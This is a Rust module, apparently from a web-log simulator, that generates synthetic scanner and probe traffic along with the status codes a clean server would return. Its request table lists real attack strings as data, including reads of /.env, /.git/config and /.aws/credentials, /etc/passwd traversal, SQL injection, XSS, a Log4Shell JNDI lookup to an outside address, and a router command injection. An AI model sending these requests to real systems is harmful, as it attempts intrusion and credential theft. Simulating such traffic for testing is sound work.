//! Programs that look for weak spots, and clients that do not speak HTTP.

use crate::agents::NO_AGENT;
use crate::hit::{Hit, Target};
use crate::random::Random;
use crate::visit::{MILLISECOND, SECOND, Visit};

/// What is tried, and what a server that has none of it answers.
#[rustfmt::skip]
static TRIED: &[(&str, &str, u16)] = &[
    ("GET", "/", 200), ("GET", "/.env", 403), ("GET", "/.git/config", 403), ("GET", "/wp-login.php", 404),
    ("POST", "/wp-login.php", 404), ("GET", "/phpmyadmin/index.php", 404), ("GET", "/xmlrpc.php", 404),
    ("POST", "/xmlrpc.php", 405), ("GET", "/wp-admin/setup-config.php", 404), ("GET", "/.aws/credentials", 403),
    ("GET", "/.git/HEAD", 403), ("GET", "/config.json", 404), ("GET", "/backup.zip", 404), ("GET", "/dump.sql", 404),
    ("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400), ("GET", "/../../../../etc/passwd", 400),
    ("GET", "/static/..%2f..%2f..%2fetc%2fpasswd", 400), ("GET", "/actuator/env", 404), ("GET", "/server-status", 403),
    ("GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404), ("POST", "/boaform/admin/formLogin", 405),
    ("GET", "/admin/", 401), ("GET", "/login.action", 404), ("GET", "/solr/admin/info/system?wt=json", 404),
    ("GET", "/search?q=%27%20OR%201%3D1--", 200), ("GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", 200),
    ("GET", "/product/1%20UNION%20SELECT%20null,version()--", 404), ("GET", "/console/", 404), ("GET", "/.DS_Store", 403),
    ("GET", "/?x=${jndi:ldap://203.0.113.66:1389/b}", 200), ("GET", "/owa/auth/logon.aspx", 404), ("GET", "/.env.bak", 403),
    ("GET", "/api/v1/users", 401), ("GET", "/old/.htpasswd", 403), ("OPTIONS", "/", 405), ("PROPFIND", "/", 405),
    ("GET", "/wp-content/plugins/hello.php", 404), ("GET", "/index.php?lang=../../../../../tmp/x", 404),
    ("GET", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id", 404), ("TRACE", "/", 405),
];

/// A scanner goes through its list as fast as it is answered, until it is slowed down.
pub(crate) fn scan(visit: &mut Visit, time: i64, random: &mut Random) -> (Hit, Option<u64>) {
    let (method, path, status) = TRIED[visit.step as usize % TRIED.len()];
    let slowed = visit.left < 20 && random.chance(250_000);
    let status = if slowed { 429 } else { status };
    let bytes = match status {
        200 => random.around(14_200),
        404 => 5_431,
        429 => 162,
        _ => 153,
    };
    let hit = Hit { method, status, ..visit.hit(time, Target::Path(path, ""), bytes) };
    (hit, visit.after(40 * MILLISECOND + random.wait(200 * MILLISECOND)))
}

/// What arrives at the plain port in place of a request, as Apache and as nginx write it, and the
/// status. Nothing at all is a time-out to Apache, which then writes 408.
#[rustfmt::skip]
static PROBES: &[(&str, &str, u16)] = &[
    (r"\x16\x03\x01\x02", r"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03\xB7\x1D\x8E\x22", 400),
    (r"\x16\x03\x01", r"\x16\x03\x01\x00\xEE\x01\x00\x00\xEA\x03\x03", 400),
    (r"\x03", r"\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr", 400),
    ("-", "", 400),
    ("-", "", 400),
    ("SSH-2.0-Go", "SSH-2.0-Go", 400),
    ("GET /", "GET /", 400),
    ("PRI * HTTP/2.0", "PRI * HTTP/2.0", 400),
    ("CONNECT mail.example:25 HTTP/1.1", "CONNECT mail.example:25 HTTP/1.1", 405),
    ("GET http://probe.example/ip HTTP/1.1", "GET http://probe.example/ip HTTP/1.1", 404),
    (r"t3 12.1.2\n", r"t3 12.1.2\x0A", 400),
];

/// A client that does not speak HTTP, or not to a web server.
pub(crate) fn probe(visit: &mut Visit, time: i64, random: &mut Random) -> (Hit, Option<u64>) {
    let (apache, nginx, status) = PROBES[random.below(PROBES.len() as u32) as usize];
    let bytes = if nginx.is_empty() { 0 } else { 157 };
    let hit = Hit { status, agent: NO_AGENT, ..visit.hit(time, Target::Raw(apache, nginx), bytes) };
    (hit, visit.after(random.wait(2 * SECOND)))
}
